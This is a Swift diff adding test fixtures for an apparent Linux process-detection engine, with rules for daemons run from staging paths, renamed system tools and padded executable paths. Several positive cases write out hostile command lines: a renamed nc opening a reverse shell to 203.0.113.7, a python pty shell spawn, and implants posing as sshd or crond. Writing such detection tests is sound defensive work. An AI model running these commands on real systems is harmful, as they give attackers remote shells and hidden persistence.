@@ -109,7 +109,8 @@ extension Fixtures {
 
         RuleFixture("exec-from-staging-location",
             positives: [
-                Case("binary in /dev/shm", Actor(Proc("/dev/shm/kworker", ["kworker"]), in: Trees.rootLogin).exec()),
+                Case("binary in /dev/shm", Actor(Proc("/dev/shm/kworker", ["kworker"]), in: Trees.rootLogin).exec(),
+                     also: ["daemon-name-outside-system-path"]),
                 Case("binary in a hidden directory", Actor(Proc("/tmp/.X11-unix/.x/xm", ["xm", "-B"], uid: 33), in: Trees.webShell).exec(stdin: .fifo, stdout: .fifo)),
                 Case("script in a hidden path under /tmp", Actor(Proc("/usr/bin/bash", ["bash", "/tmp/.ssh-x/run.sh"], uid: 1000), in: Trees.userLogin).exec()),
                 Case("copied shell run with -p", Actor(Proc("/var/tmp/sh", ["/var/tmp/sh", "-p"], uid: 1000), in: Trees.userLogin).exec()),
@@ -158,6 +159,50 @@ extension Fixtures {
             negatives: [
                 Case("touch of a marker file", Actor(Proc.line("/usr/bin/touch", "touch /etc/nologin"), in: Trees.rootLogin).exec()),
                 Case("make resets a build stamp", Actor(Proc.line("/usr/bin/touch", "touch -d @0 build/stamp /home/alice/src/app/out"), in: Trees.userLogin).exec()),
+            ]),
+    ]
+}
+
+extension Fixtures {
+    static let daemonMasquerade: [RuleFixture] = [
+        RuleFixture("daemon-name-outside-system-path",
+            positives: [
+                Case("a shell copied to /tmp/.x/sshd", Actor(Proc.line("/tmp/.x/sshd", "sshd -D"), in: Trees.rootLogin).exec(),
+                     also: ["exec-from-staging-location"]),
+                Case("an implant as /var/tmp/crond", Actor(Proc.line("/var/tmp/crond", "crond"), in: Trees.rootLogin).exec()),
+                Case("a payload as ~/bin/rsyslogd", Actor(Proc.line("/home/alice/bin/rsyslogd", "rsyslogd -n", uid: 1000), in: Trees.userLogin).exec()),
+            ],
+            negatives: [
+                Case("the real sshd", Actor(Proc.line("/usr/sbin/sshd", "sshd -D"), in: Tree([Trees.systemd])).exec()),
+                Case("postgres from its package directory", Actor(Proc.line("/usr/lib/postgresql/15/bin/postgres", "postgres -D /var/lib/postgresql/15/main"), in: Tree([Trees.systemd])).exec()),
+                Case("nginx from /opt", Actor(Proc.line("/opt/nginx/sbin/nginx", "nginx -g daemon off;"), in: Tree([Trees.systemd])).exec()),
+                Case("a tool whose name merely ends like a daemon", Actor(Proc.line("/tmp/build/webmaster", "webmaster --help"), in: Trees.userLogin).exec()),
+            ]),
+    ]
+}
+
+extension Fixtures {
+    static let contentIdentity: [RuleFixture] = [
+        RuleFixture("renamed-system-tool",
+            positives: [
+                Case("bash copied to ~/bin/update-helper", Actor(Proc.line("/home/alice/bin/update-helper", "update-helper -i", uid: 1000).copy(of: "bash"), in: Trees.userLogin).exec()),
+                Case("nc renamed dbus-helper", Actor(Proc.line("/var/lib/app/dbus-helper", "dbus-helper -e /bin/sh 203.0.113.7 4444").copy(of: "nc"), in: Trees.rootLogin).exec()),
+                Case("python3 copied as worker", Actor(Proc.line("/opt/app/worker", "worker -c import pty;pty.spawn('/bin/sh')").copy(of: "python3"), in: Trees.rootLogin).exec()),
+            ],
+            negatives: [
+                Case("the real bash", Actor(Proc.line("/usr/bin/bash", "bash -l", uid: 1000).copy(of: "bash"), in: Trees.userLogin).exec()),
+                Case("dash through /bin/sh", Actor(Proc.line("/bin/sh", "sh -c true").copy(of: "dash"), in: Trees.rootLogin).exec()),
+                Case("python3.11 is python3", Actor(Proc.line("/usr/bin/python3.11", "python3.11 -V").copy(of: "python3"), in: Trees.rootLogin).exec()),
+                Case("nc.openbsd is nc", Actor(Proc.line("/usr/bin/nc.openbsd", "nc -z 127.0.0.1 22").copy(of: "nc"), in: Trees.rootLogin).exec()),
+                Case("an unknown binary", Actor(Proc.line("/opt/app/worker", "worker --serve"), in: Trees.rootLogin).exec()),
+            ]),
+        RuleFixture("padded-executable-path",
+            positives: [
+                Case("payload 60 directories deep", Actor(Proc.line("/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/a/x", "x"), in: Trees.rootLogin).exec(flags: [.exeTruncated])),
+            ],
+            negatives: [
+                Case("a long command line is not padding", Actor(Proc.line("/usr/bin/gcc", "gcc -c x.c"), in: Trees.userLogin).exec(flags: [.argsTruncated])),
+                Case("an ordinary exec", Actor(Proc.line("/usr/bin/id", "id"), in: Trees.rootLogin).exec()),
             ]),
     ]
 }
